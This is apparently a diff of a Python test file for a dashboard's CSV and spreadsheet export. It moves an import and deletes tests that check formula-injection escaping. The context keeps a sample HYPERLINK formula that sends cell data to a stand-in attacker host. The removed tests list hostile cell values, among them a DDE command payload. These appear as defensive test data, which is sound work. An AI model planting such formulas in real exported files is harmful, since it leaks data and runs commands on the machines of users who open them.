@@ -7,13 +7,12 @@ import io
 
 import pytest
 
-from flfed.records.dashboard.cells import FORMULAS, plain_cell
 from flfed.records.dashboard.panels import JOINER, escape, holdout_in_words, with_code
-from flfed.records.dashboard.showing import csv_text
 from flfed.records.dashboard.site_panels import _words
 from flfed.records.entries import EventEntry, EventRow
 from flfed.records.reading import RunReader
 from flfed.records.reports import report
+from flfed.spreadsheet import plain_cell
 from tests.browser import Window
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'
@@ -55,47 +54,12 @@ def test_ticks_that_are_no_pair_open_no_way_around(ticks):
     assert with_code(ticks).count("\\`") == ticks.count("`")
 
 
-@pytest.mark.parametrize("value", [FORMULA, " =1", "@SUM(A1)", "+A1", "-A1", "\t=1", "\uff1d1", "-1+cmd|' /C calc'!A0"])
-def test_a_formula_is_text_to_a_spreadsheet(value):
-    assert plain_cell(value) == f"'{value}"
-
-
-@pytest.mark.parametrize(
-    "value",
-    [
-        "+.11",
-        "+.11 (+.02\xa0to\xa0+.20),\xa0shared",
-        "+.11 (n/a)",
-        "-0.3",
-        -0.3,
-        None,
-        7,
-        "a=b",
-        "\u2212.02",
-        "a; b; -0.3",
-    ],
-)
-def test_figures_and_names_are_given_away_as_they_are(value):
-    assert plain_cell(value) == value
-
-
 def test_a_gain_in_the_table_of_sites_has_no_quote_before_it(store, heart, url):
     with RunReader.open(url) as reader:
         found = report(reader, heart)
     cells = [_words(site, found["sites"][site], "roc_auc_score")["Gain, + is better (95 %)"] for site in found["sites"]]
     assert sum(cell.startswith("+") for cell in cells) >= 2
     assert [plain_cell(cell) for cell in cells] == cells
-
-
-@pytest.mark.parametrize("sign", [",", ";", "\t"])
-@pytest.mark.parametrize("between", ["; ", ";", "\t", "\n", "\r\n", '";', '"\t'])
-def test_a_formula_within_a_text_becomes_no_cell_wherever_a_spreadsheet_splits(sign, between):
-    text = csv_text([{f"a{between}@1": 1, "reason": f"late{between}=1+1{between}+A1", "gain": -0.3}])
-    split = [cell for line in csv.reader(io.StringIO(text), delimiter=sign) for cell in line]
-    assert sum("=1+1" in cell for cell in split) == 1
-    starts = [cell.strip() for cell in split if cell.strip().startswith(FORMULAS)]
-    assert starts == (["-0.3"] if sign == "," else [])
-    assert all(line.startswith('"') for line in text.split("\r\n") if line.startswith(("a", "late")))
 
 
 def test_a_short_table_that_is_copied_holds_no_formula():
